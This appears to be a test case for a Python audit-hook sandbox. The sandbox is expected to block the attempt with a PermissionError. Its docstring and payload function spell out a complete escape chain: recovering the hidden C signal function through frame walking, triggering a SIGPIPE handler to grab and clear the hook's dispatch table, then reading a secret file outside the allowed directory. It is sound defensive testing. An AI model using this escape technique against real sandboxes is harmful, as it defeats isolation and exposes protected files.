# rule: expose-ro=.
# expect: file PermissionError

"""Objective: read ../outside/secret.txt after emptying the hook's dispatch table, with the
unwrapped C ``_signal.signal`` dug out of its wrapper's hidden generator. No module but
``sys``.

1. ``_signal.signal`` is wrapped with ``wrappers.hide()``: the original lives only in the
   frame of a suspended generator, "and no code of the program runs in that frame". The
   wrapper converts path-like arguments outside the generator, but the *signal number* goes in
   as it came: the original (Argument Clinic ``int``) calls its ``__index__`` -- program code,
   with the holder generator's frame as its caller.
2. A generator frame kept from earlier (``sys._getframe()`` with no guard frame among its
   callers: allowed) is resumed from ``__index__``: its ``f_back`` chain (no audit event)
   reaches the holder, whose ``f_locals`` (no event) hold ``fn``: the C ``_signal.signal``.
3. The C function installs a handler with no trampoline. ``posix.write`` to a pipe whose
   reader is closed makes ``SIGPIPE`` pending without running the eval loop's check (error
   path); the next Python code to start is ``_hook_body`` for the next event, and CPython hands
   the handler that frame: ``f_locals['get']`` is the bound ``dict.get`` of the dispatch table.
"""

from _harness import attempt


def payload():
    import sys

    posix = sys.modules['posix']
    _signal = sys.modules['_signal']
    found = []
    getters = []

    def spy():
        me = sys._getframe()
        while True:
            yield
            frame = me.f_back
            while frame is not None:
                names = frame.f_locals
                if 'fn' in names and 'before' in names:
                    found.append(names['fn'])
                    break
                frame = frame.f_back

    walker = spy()
    next(walker)

    class Number:
        def __index__(self):
            next(walker)
            return _signal.SIGPIPE

    _signal.signal(Number(), _signal.SIG_IGN)
    original = found[0] if found else _signal.signal  # plain python3: no wrapper

    def handler(signum, frame):
        while frame is not None:
            names = frame.f_locals
            if 'get' in names and 'strip' in names:
                getters.append(names['get'])
                break
            frame = frame.f_back

    original(_signal.SIGPIPE, handler)
    r, w = posix.pipe()
    posix.close(r)
    try:
        posix.write(w, b'x')
    except BrokenPipeError:
        pass
    sys.audit('open', 'data.txt', 'r', 0)
    posix.close(w)
    original(_signal.SIGPIPE, _signal.SIG_IGN)
    for get in getters[:1]:
        get.__self__.clear()
    with open('../outside/secret.txt') as f:
        data = f.read()
    assert data == 'the secret\n', data
    return data


attempt(payload)
